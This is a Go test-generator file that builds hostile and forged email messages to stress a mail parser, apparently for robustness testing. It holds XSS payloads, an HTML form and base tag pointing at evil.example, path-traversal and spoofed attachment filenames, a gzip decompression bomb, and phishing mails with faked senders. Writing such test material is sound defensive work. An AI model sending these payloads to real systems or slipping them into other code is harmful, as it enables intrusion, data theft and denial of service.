package torture

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
)

// hostile makes the n-th hostile mail: what breaks parsers, in turn.
func (t *trial) hostile(n int) letter {
	rng := rand.New(rand.NewPCG(t.seed, 1<<33+uint64(n)))
	l := letter{n: n, from: fmt.Sprintf("h%d@example.net", n), to: care, subject: fmt.Sprintf("Hostile %06d", n), hostile: true}
	var b bytes.Buffer
	fmt.Fprintf(&b, "From: <%s>\r\nTo: <%s>\r\nSubject: %s\r\nMessage-ID: <h%d@example.net>\r\n", l.from, l.to, l.subject, n)
	cruel := cruelties12[n/2%len(cruelties12)]
	cruel(&b, rng)
	l.raw = wire(b.Bytes())
	return l.sealed()
}

// wire makes bytes that SMTP carries unchanged: each line ends with CR LF, and
// so does the last. What a desk makes of bare ones is told by its own tests.
func wire(b []byte) []byte {
	b = bytes.ReplaceAll(bytes.ReplaceAll(b, []byte("\r\n"), []byte("\n")), []byte("\r"), nil)
	b = bytes.ReplaceAll(b, []byte("\n"), []byte("\r\n"))
	if !bytes.HasSuffix(b, []byte("\r\n")) {
		b = append(b, "\r\n"...)
	}
	return b
}

// cruelties12 each end the header and write a body.
var cruelties12 = []func(*bytes.Buffer, *rand.Rand){
	brokenBoundary, deepNesting, deepMessages, manyParts, hugeHeader, manyHeaders, manyAddresses, lyingBase64, lyingQuoted, unknownCharset, controlBytes,
	longLine, hostileHTML, deepHTML, gzipBomb, noHeader, encodedWords, noEnd, hostileNames, twiceTheSame, references,
}

func brokenBoundary(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Content-Type: multipart/mixed; boundary=\"never\r\n\r\n--nev\r\nContent-Type: text/plain\r\n\r\nwhere does this end\r\n--never-\r\n")
	b.Write(bytesOf(rng, 2000))
}

func deepNesting(b *bytes.Buffer, rng *rand.Rand) {
	depth := 200 + rng.IntN(2000)
	b.WriteString("Content-Type: multipart/mixed; boundary=b0\r\n\r\n")
	for i := range depth {
		fmt.Fprintf(b, "--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n", i, i+1)
	}
	fmt.Fprintf(b, "--b%d\r\nContent-Type: text/plain\r\n\r\nat the bottom\r\n", depth)
}

func deepMessages(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Content-Type: message/rfc822\r\n\r\n")
	for i := range 100 + rng.IntN(1000) {
		fmt.Fprintf(b, "Subject: in %d\r\nContent-Type: message/rfc822\r\n\r\n", i)
	}
	b.WriteString("Subject: the last\r\n\r\nhere\r\n")
}

func manyParts(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Content-Type: multipart/mixed; boundary=x\r\n\r\n")
	for i := range 2000 + rng.IntN(8000) {
		fmt.Fprintf(b, "--x\r\nContent-Disposition: attachment; filename=f%d\r\n\r\n%d\r\n", i, i)
	}
	b.WriteString("--x--\r\n")
}

func hugeHeader(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("X-Huge: ")
	for range 2000 + rng.IntN(20000) {
		b.WriteString("folded again and again\r\n ")
	}
	b.WriteString("end\r\n\r\nthe body\r\n")
}

func manyHeaders(b *bytes.Buffer, rng *rand.Rand) {
	for i := range 5000 + rng.IntN(20000) {
		fmt.Fprintf(b, "X-%d: %d\r\n", i, rng.IntN(1000))
	}
	b.WriteString("\r\nthe body\r\n")
}

func manyAddresses(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Cc: ")
	for i := range 5000 + rng.IntN(10000) {
		fmt.Fprintf(b, "\"((<%d>\" <a%d@example.org>,\r\n ", i, i)
	}
	b.WriteString("z@example.org\r\n\r\nthe body\r\n")
}

func lyingBase64(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: application/pdf; name=bill.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	b.Write(bytesOf(rng, 1000+rng.IntN(20000)))
}

func lyingQuoted(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n")
	for range 5000 {
		fmt.Fprintf(b, "=%c%c=\n", 'A'+rng.IntN(26), 'a'+rng.IntN(26))
	}
}

func unknownCharset(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Content-Type: text/plain; charset=\"x-klingon-" + strings.Repeat("9", 500) + "\"\r\n\r\n")
	b.Write(bytesOf(rng, 5000))
}

func controlBytes(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("X-Odd: a\x00b\x01c\x7f\r\n\r\n")
	for range 3000 {
		b.WriteByte(byte(rng.IntN(32)))
	}
}

func longLine(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("\r\n" + strings.Repeat("never a line end ", 20000+rng.IntN(40000)) + "\r\n")
}

func hostileHTML(b *bytes.Buffer, rng *rand.Rand) {
	fmt.Fprintf(b, "Content-Type: text/html\r\n\r\n<svg/onload=alert(%d)><img src=x onerror=alert(1)><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"+
		"<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example/><form action=//evil.example><input name=p>", rng.IntN(1000))
}

func deepHTML(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Content-Type: text/html\r\n\r\n" + strings.Repeat("<blockquote><table><tr><td>", 2000+rng.IntN(8000)) + "down here")
}

func gzipBomb(b *bytes.Buffer, rng *rand.Rand) {
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	w.Write(make([]byte, 20<<20+rng.IntN(1<<20)))
	w.Close()
	fmt.Fprintf(b, "Content-Type: application/gzip; name=bomb.gz\r\nContent-Encoding: gzip\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", base64.StdEncoding.EncodeToString(z.Bytes()))
}

func noHeader(b *bytes.Buffer, rng *rand.Rand) {
	b.Reset()
	fmt.Fprintf(b, "this is no header at all %d\r\nneither is this\r\n: nor this\r\n", rng.Uint64())
}

func encodedWords(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("Subject: ")
	for range 3000 + rng.IntN(3000) {
		b.WriteString("=?utf-8?b?4oK?=\r\n =?utf-7?q?+ADw-?= =?x?y?z?=\r\n ")
	}
	b.WriteString("\r\n\r\nthe body\r\n")
}

func noEnd(b *bytes.Buffer, rng *rand.Rand) {
	fmt.Fprintf(b, "X-Last-Words: %d", rng.Uint64())
}

func hostileNames(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n")
	for _, name := range []string{"../../../../etc/passwd", "..\\..\\boot.ini", "CON", "a\x00.exe", "rechnung\u202efdp.exe", strings.Repeat("n", 5000), "", "/", "-rf"} {
		fmt.Fprintf(b, "--x\r\nContent-Type: image/svg+xml; name=\"%s\"\r\nContent-Disposition: attachment; filename*0*=utf-8''%%2e%%2e%%2f; filename=\"%[1]s\"\r\n\r\n<svg onload=alert(%d)/>\r\n", name, rng.IntN(1000))
	}
	b.WriteString("--x--\r\n")
}

func twiceTheSame(b *bytes.Buffer, rng *rand.Rand) {
	fmt.Fprintf(b, "From: care@kettle.example\r\nFrom: <>\r\nTo:\r\nDate: Thu, 99 Foo 99999 99:99:99 +9999\r\nMIME-Version: 1.0\r\nMIME-Version: 7.0\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<b>%d\r\n", rng.Uint64())
}

func references(b *bytes.Buffer, rng *rand.Rand) {
	b.WriteString("In-Reply-To: <>\r\nReferences: ")
	for range 5000 + rng.IntN(5000) {
		fmt.Fprintf(b, "<%d@example.com>\r\n ", rng.Uint64())
	}
	b.WriteString("<>\r\n\r\nthe body\r\n")
}

// forged makes the n-th mail of a flood in the names of others: customers we
// know, robots, and ourselves.
func (t *trial) forged(n int) letter {
	rng := rand.New(rand.NewPCG(t.seed, 1<<34+uint64(n)))
	from := []string{fmt.Sprintf("c%d@example.com", rng.IntN(500)), fmt.Sprintf("f%d@example.net", n), care, "mailer-daemon@example.com", "noreply@example.org"}[rng.IntN(5)]
	l := letter{n: n, from: from, to: care, subject: fmt.Sprintf("Win a kettle %06d", n), hostile: true}
	if rng.IntN(4) == 0 {
		l.from = "" // as bounces come
	}
	var b strings.Builder
	fmt.Fprintf(&b, "From: <%s>\r\nTo: <%s>\r\nSubject: %s\r\nMessage-ID: <%d@example.net>\r\n", from, l.to, l.subject, n)
	switch rng.IntN(5) {
	case 0:
		b.WriteString("Auto-Submitted: auto-replied\r\n")
	case 1:
		b.WriteString("Authentication-Results: kettle.example; dmarc=pass; spf=pass\r\n")
	case 2:
		b.WriteString("Precedence: bulk\r\nList-Id: <kettles.example.net>\r\n")
	}
	fmt.Fprintf(&b, "\r\nDear friend, click https://evil.example/%d now.\r\n", rng.Uint64())
	l.raw = []byte(b.String())
	return l.sealed()
}
